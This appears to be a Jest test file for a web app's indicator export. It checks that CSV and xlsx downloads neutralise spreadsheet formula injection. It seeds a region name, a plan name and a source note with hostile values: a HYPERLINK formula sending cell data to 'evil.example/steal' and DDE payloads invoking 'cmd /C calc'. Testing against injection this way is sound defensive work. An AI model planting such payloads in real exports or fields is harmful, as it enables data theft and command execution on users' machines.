import { Workbook } from 'exceljs';
import { bearer, login } from './utils/factories';
import { startTestApp, TEST_ADMIN, TestApp } from './utils/test-app';

/** Every character a spreadsheet reads as the start of a formula (tab and carriage return shift the cell). */
const FORMULA_START = /^[=+\-@\t\r]/;
// A fixed past year: the report and the manual figure need no "now".
const YEAR = 2025;
const REGION = '=HYPERLINK("http://evil.example/steal?x="&A1,"海淀区")';
const PLAN = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const SOURCE = '-2+3+cmd|\' /C calc\'!A0';

/** Minimal RFC 4180 reader: enough to see each cell exactly as a spreadsheet receives it. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') rows[rows.length - 1].push(cell), (cell = '');
    else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      rows[rows.length - 1].push(cell);
      cell = '';
      rows.push([]);
    } else cell += c;
  }
  if (cell !== '' || rows[rows.length - 1].length) rows[rows.length - 1].push(cell);
  return rows.filter((r) => r.length);
}

/**
 * Spreadsheet exports with hostile text in every hand-entered field they show: a region name, a plan
 * name and a manual figure's source note, each of which a spreadsheet would otherwise run as a formula.
 */
describe('spreadsheet exports neutralise formula injection', () => {
  let t: TestApp;
  let admin: string;
  let regionId: string;
  const download = (format: string) =>
    t.http()
      .get(`/api/indicators/export?format=${format}&plan=evil-plan&year=${YEAR}&regionId=${regionId}`)
      .set(bearer(admin))
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);

  beforeAll(async () => {
    t = await startTestApp();
    admin = (await login(t.http, TEST_ADMIN.username, TEST_ADMIN.password)).accessToken;
    regionId = (await t.http().post('/api/regions').set(bearer(admin)).send({ kind: 'district', name: REGION, population: 1000, populationYear: YEAR }).expect(201)).body.id;
    await t.http()
      .post('/api/indicator-plans')
      .set(bearer(admin))
      .send({ code: 'evil-plan', name: PLAN, fromYear: YEAR, toYear: YEAR, targets: [{ indicator: 'museums', target: 1 }, { indicator: 'books_per_head', target: 1 }] })
      .expect(201);
    await t.http().put('/api/indicators/museums/manual').set(bearer(admin)).send({ year: YEAR, regionId, value: 2, source: SOURCE }).expect(200);
  });
  afterAll(() => t.close());

  it('CSV: no cell starts with a formula character; the hostile text is there with a leading apostrophe', async () => {
    const res = await download('csv');
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const cells = csvCells((res.body as Buffer).toString('utf8').replace(/^\uFEFF/, '')).flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(cells).toContain(`'${SOURCE}`);
  });

  it('xlsx: no cell of any sheet starts with a formula character, none is a formula, and names and notes show with a leading apostrophe', async () => {
    const res = await download('xlsx');
    const workbook = new Workbook();
    await workbook.xlsx.load(res.body as Parameters<typeof workbook.xlsx.load>[0]);
    const values: unknown[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => values.push(cell.value))));
    expect(values.filter((v) => typeof v === 'object' && v !== null && ('formula' in v || 'sharedFormula' in v))).toEqual([]);
    expect(values.filter((v) => typeof v === 'string' && FORMULA_START.test(v))).toEqual([]);
    expect(values).toEqual(expect.arrayContaining([`'${REGION}`, `'${PLAN}`, `'${SOURCE}`]));
    expect(workbook.getWorksheet('summary')!.getCell('B3').value).toBe(`'${REGION}`);
  });
});
